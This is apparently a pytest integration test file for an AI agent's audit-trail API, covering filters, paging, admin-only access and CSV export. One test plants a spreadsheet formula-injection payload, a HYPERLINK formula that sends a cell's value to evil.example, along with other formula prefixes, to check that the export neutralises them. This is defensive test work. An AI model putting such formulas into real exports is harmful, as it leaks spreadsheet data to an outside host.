"""The agent's audit trail as an admin reads it over convo's REST API, with a real ops asked for
the caller's role and records kept through the real EndTurn: each filter narrows, pages
follow one another whatever is recorded meanwhile, the CSV runs nothing in a spreadsheet, and
nobody but an admin — as ops says at that moment — reads any of it."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import datetime
from typing import Any

import httpx
import pytest
from google.protobuf import struct_pb2
from opentelemetry.sdk.trace import TracerProvider
from sqlalchemy import func, select, text

from sstools.common.catalogue import Role
from sstools.common.db import create_engine
from sstools.convo.main import assemble
from sstools.convo.store import MIGRATIONS
from sstools.convo.v1 import convo_pb2, convo_pb2_grpc
from sstools.devstack.agentstack import convo_settings_for
from sstools.devstack.keys import PRIVATE_KEY, PUBLIC_KEYS
from sstools.devstack.testing import started_service, wait_until
from sstools.ops.main import assemble as assemble_ops
from sstools.ops.settings import OpsSettings
from sstools.ops.store import MIGRATIONS as OPS_MIGRATIONS
from sstools.ops.store.users import UserStore

from .conftest import person, user_token

AUDIT = "/api/assistant/audit"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'


def signed(user: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {user_token(user)}"}


@dataclass(frozen=True)
class Ops:
    url: str
    users: UserStore


@pytest.fixture
async def ops(fresh_database_url: str, tracer_provider: TracerProvider) -> AsyncIterator[Ops]:
    """A real ops on the same database, trusting the test key: its users are root and adam
    (admins) and anna (an analyst)."""
    await asyncio.to_thread(OPS_MIGRATIONS.upgrade, fresh_database_url)
    settings = OpsSettings(
        http_port=0,
        metrics_port=0,
        database_url=fresh_database_url,
        jwt_private_key=PRIVATE_KEY,
        jwt_public_keys=PUBLIC_KEYS,
        confirmation_secret="convo-audit-confirmations-" + "c" * 32,
        admin_username="root",
        admin_password="convo-audit-admin-pass",
    )
    engine = create_engine(fresh_database_url)
    try:
        async with started_service(settings, assemble_ops, tracer_provider) as service:
            users = UserStore(engine)

            async def bootstrapped() -> bool:
                return await users.active("root") is not None

            await wait_until(bootstrapped, 10, "ops' admin")
            await users.create("adam", "adam-long-password", Role.ADMIN)
            await users.create("anna", "anna-long-password", Role.ANALYST)
            yield Ops(f"http://127.0.0.1:{service.ports['api']}", users)
    finally:
        await engine.dispose()


@pytest.fixture
def convo_settings(ops: Ops) -> dict[str, Any]:
    """convo asks that ops for the callers' roles."""
    return {"ops_url": ops.url}


async def record(
    agent: convo_pb2_grpc.ConversationServiceAsyncStub,
    user: str,
    tool: str,
    args: dict[str, Any],
    decision: str,
    outcome: str,
    task_id: str = "",
) -> str:
    """One command's record, as the agent keeps it (its turn's end, under the person's token)."""
    arguments = struct_pb2.Struct()
    arguments.update(args)
    conversation = str(uuid.uuid4())
    record = convo_pb2.AuditRecord(
        conversation_id=conversation,
        service_identity="agent",
        decision=decision,
        tool_name=tool,
        tool_args=arguments,
        outcome=outcome,
        task_id=task_id,
        thread_id=conversation,
        latency_seconds=0.5,
    )
    kept = await agent.EndTurn(convo_pb2.EndTurnRequest(audit=record), metadata=person(user))
    return str(kept.audit_id)


async def database_now(database_url: str) -> datetime:
    engine = create_engine(database_url)
    try:
        async with engine.connect() as connection:
            stamp = await connection.scalar(select(func.clock_timestamp()))
    finally:
        await engine.dispose()
    assert isinstance(stamp, datetime)
    return stamp


async def test_each_filter_narrows_the_trail_newest_first(
    rest: httpx.AsyncClient, agent: convo_pb2_grpc.ConversationServiceAsyncStub, fresh_database_url: str
) -> None:
    deploy = {"env_id": "prod", "dashboard_id": 42, "source_env": "dev"}
    confirmed = await record(agent, "oleg", "deploy_dashboard", deploy, "confirmed", "started", "task-1")
    carded = await record(
        agent,
        "oleg",
        "deploy_dashboard",
        {"env_id": "staging", "dashboard_id": 7},
        "needs_confirmation",
        "needs_confirmation",
    )
    between = await database_now(fresh_database_url)
    denied = await record(
        agent, "anna", "superset_execute_sql", {"env_id": "prod", "sql": "DROP"}, "denied", "denied"
    )
    searched = await record(agent, "vera", "search_dashboards", {"env_id": "dev"}, "allowed", "success")
    refused = await record(agent, "vera", "", {}, "refused", "failed")
    # not an environment id: no environment is kept for it
    odd = await record(agent, "oleg", "run_backup", {"env_id": "Prod Main"}, "allowed", "started")

    async def ids(**params: str) -> list[str]:
        reply = await rest.get(AUDIT, params=params, headers=signed("root"))
        assert reply.status_code == 200, reply.text
        return [item["id"] for item in reply.json()["items"]]

    assert await ids() == [odd, refused, searched, denied, carded, confirmed]
    assert await ids(user="vera") == [refused, searched]
    assert await ids(tool="deploy_dashboard") == [carded, confirmed]
    assert await ids(env="prod") == [denied, confirmed]
    assert await ids(env="staging") == [carded]
    assert await ids(decision="denied") == [denied]
    assert await ids(outcome="started") == [odd, confirmed]
    assert await ids(since=between.isoformat()) == [odd, refused, searched, denied]
    assert await ids(until=between.isoformat()) == [carded, confirmed]
    # who deployed what to prod
    assert await ids(tool="deploy_dashboard", env="prod", decision="confirmed") == [confirmed]

    one = await rest.get(f"{AUDIT}/{confirmed}", headers=signed("root"))
    assert one.status_code == 200, one.text
    shown = one.json()
    assert {key: shown[key] for key in ("user", "tool", "env", "decision", "outcome", "task_id")} == {
        "user": "oleg",
        "tool": "deploy_dashboard",
        "env": "prod",
        "decision": "confirmed",
        "outcome": "started",
        "task_id": "task-1",
    }
    assert shown["tool_args"] == deploy
    assert shown["conversation_id"] == shown["thread_id"]
    listed = (await rest.get(AUDIT, params={"user": "oleg", "env": "prod"}, headers=signed("root"))).json()
    assert listed["items"] == [shown]
    missing = await rest.get(f"{AUDIT}/{uuid.uuid4()}", headers=signed("root"))
    assert (missing.status_code, missing.json()["detail"]["code"]) == (404, "audit_record_not_found")


async def test_pages_follow_one_another_whatever_is_recorded_meanwhile(
    rest: httpx.AsyncClient, agent: convo_pb2_grpc.ConversationServiceAsyncStub
) -> None:
    kept = [await record(agent, "vera", "list_environments", {}, "allowed", "success") for _ in range(5)]
    seen: list[str] = []
    cursor = None
    while True:
        params = {"limit": "2", **({"cursor": cursor} if cursor else {})}
        page = (await rest.get(AUDIT, params=params, headers=signed("root"))).json()
        assert len(page["items"]) <= 2
        seen += [item["id"] for item in page["items"]]
        if cursor is None:  # newer than every page: nothing moves onto the next one again
            await record(agent, "vera", "list_environments", {}, "allowed", "success")
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == kept[::-1]


async def test_bad_filters_are_refused(rest: httpx.AsyncClient) -> None:
    for bad in (
        {"tool": "drop_everything"},
        {"decision": "maybe"},
        {"env": "Prod!"},
        {"outcome": "Not Ours"},
        {"user": ""},
        {"since": "last week"},
        {"since": "2026-12-01T10:00:00"},  # no zone: whose ten o'clock?
        {"since": "2026-12-02T00:00:00+03:00", "until": "2026-12-01T00:00:00Z"},
    ):
        for path in (AUDIT, AUDIT + ".csv"):
            reply = await rest.get(path, params=bad, headers=signed("root"))
            assert reply.status_code == 422, (path, bad, reply.text)
    for bad in ({"limit": "0"}, {"limit": "201"}):  # a page's (the CSV has them all)
        assert (await rest.get(AUDIT, params=bad, headers=signed("root"))).status_code == 422
    junk = await rest.get(AUDIT, params={"cursor": "bm90IG91cnM="}, headers=signed("root"))
    assert (junk.status_code, junk.json()["detail"]["code"]) == (422, "bad_cursor")
    assert (await rest.get(f"{AUDIT}/not-an-id", headers=signed("root"))).status_code == 422


async def test_only_an_admin_reads_the_trail_as_ops_says_now(
    rest: httpx.AsyncClient, agent: convo_pb2_grpc.ConversationServiceAsyncStub, ops: Ops
) -> None:
    audit_id = await record(agent, "anna", "search_dashboards", {"env_id": "dev"}, "allowed", "success")
    paths = (AUDIT, AUDIT + ".csv", f"{AUDIT}/{audit_id}")
    for path in paths:
        assert (await rest.get(path, headers=signed("adam"))).status_code == 200
        refused = await rest.get(path, headers=signed("anna"))  # her own record included
        assert refused.status_code == 403
        assert refused.json()["detail"] == {
            "code": "permission_denied",
            "required_role": "admin",
            "user_role": "analyst",
            "message": "admins only",
        }
        assert (await rest.get(path)).status_code == 401

    # demoted: refused at once, though ops said "admin" a moment ago
    await ops.users.change("adam", role=Role.OPERATOR, active=None)
    for path in paths:
        refused = await rest.get(path, headers=signed("adam"))
        assert (refused.status_code, refused.json()["detail"]["user_role"]) == (403, "operator")


async def test_without_ops_to_ask_nobody_is_an_admin(
    fresh_database_url: str, tracer_provider: TracerProvider
) -> None:
    await asyncio.to_thread(MIGRATIONS.upgrade, fresh_database_url)
    async with (
        started_service(convo_settings_for(fresh_database_url), assemble, tracer_provider) as convo,
        httpx.AsyncClient(base_url=f"http://127.0.0.1:{convo.ports['rest']}", timeout=30) as rest,
    ):
        refused = await rest.get(AUDIT, headers=signed("root"))
    assert refused.status_code == 403
    assert refused.json()["detail"]["code"] == "permission_denied"
    assert "CONVO_OPS_URL" in refused.json()["detail"]["message"]


async def test_the_csv_is_every_record_the_filters_name_and_runs_nothing_in_a_spreadsheet(
    rest: httpx.AsyncClient, agent: convo_pb2_grpc.ConversationServiceAsyncStub
) -> None:
    await record(
        agent, FORMULA, "search_dashboards", {"env_id": "dev", "query": "=1+1"}, "allowed", "success"
    )
    for user in ("@SUM(A1:A9)", "+1", "-1+2", 'plain,"quoted"'):
        await record(
            agent, user, "search_dashboards", {"env_id": "dev"}, "allowed", "success", task_id="-3+4"
        )
    await record(agent, "oleg", "run_backup", {"env_id": "prod"}, "allowed", "started")

    reply = await rest.get(AUDIT + ".csv", params={"env": "dev"}, headers=signed("root"))
    assert reply.status_code == 200, reply.text
    assert reply.headers["content-type"] == "text/csv; charset=utf-8"
    assert reply.headers["content-disposition"] == 'attachment; filename="assistant-audit.csv"'
    rows = list(csv.DictReader(io.StringIO(reply.text)))
    assert list(rows[0]) == [
        "id",
        "created_at",
        "user",
        "tool",
        "env",
        "decision",
        "outcome",
        "task_id",
        "conversation_id",
        "thread_id",
        "service_identity",
        "latency_seconds",
        "tool_args",
        "action",
        "code",
        "calls",
    ]
    # a proper writer (the comma and quotes come back whole), and no cell a spreadsheet would run
    assert [row["user"] for row in rows] == ['plain,"quoted"', "'-1+2", "'+1", "'@SUM(A1:A9)", "'" + FORMULA]
    assert {row["task_id"] for row in rows[:-1]} == {"'-3+4"}
    assert rows[-1]["tool_args"] == '{"env_id": "dev", "query": "=1+1"}'  # JSON: starts with {
    assert {row["env"] for row in rows} == {"dev"}


async def test_records_kept_before_the_env_column_have_it_from_their_arguments(
    fresh_database_url: str,
) -> None:
    await asyncio.to_thread(MIGRATIONS.upgrade, fresh_database_url)
    await asyncio.to_thread(MIGRATIONS.downgrade, fresh_database_url, "convo_0004")
    engine = create_engine(fresh_database_url)
    try:
        async with engine.begin() as connection:
            for user, args in (
                ("a", '{"env_id": "prod", "dashboard_id": 1}'),
                ("b", '{"env_id": "Prod Main"}'),
                ("c", '{"env_id": 7}'),
                ("d", "{}"),
            ):
                await connection.execute(
                    text(
                        "INSERT INTO assistant_audit (id, user_id, decision, tool_args)"
                        " VALUES (gen_random_uuid(), :user, 'allowed', CAST(:args AS jsonb))"
                    ),
                    {"user": user, "args": args},
                )
        await asyncio.to_thread(MIGRATIONS.upgrade, fresh_database_url)
        async with engine.connect() as connection:
            rows = await connection.execute(text("SELECT user_id, env FROM assistant_audit ORDER BY user_id"))
            assert [tuple(row) for row in rows] == [("a", "prod"), ("b", ""), ("c", ""), ("d", "")]
    finally:
        await engine.dispose()
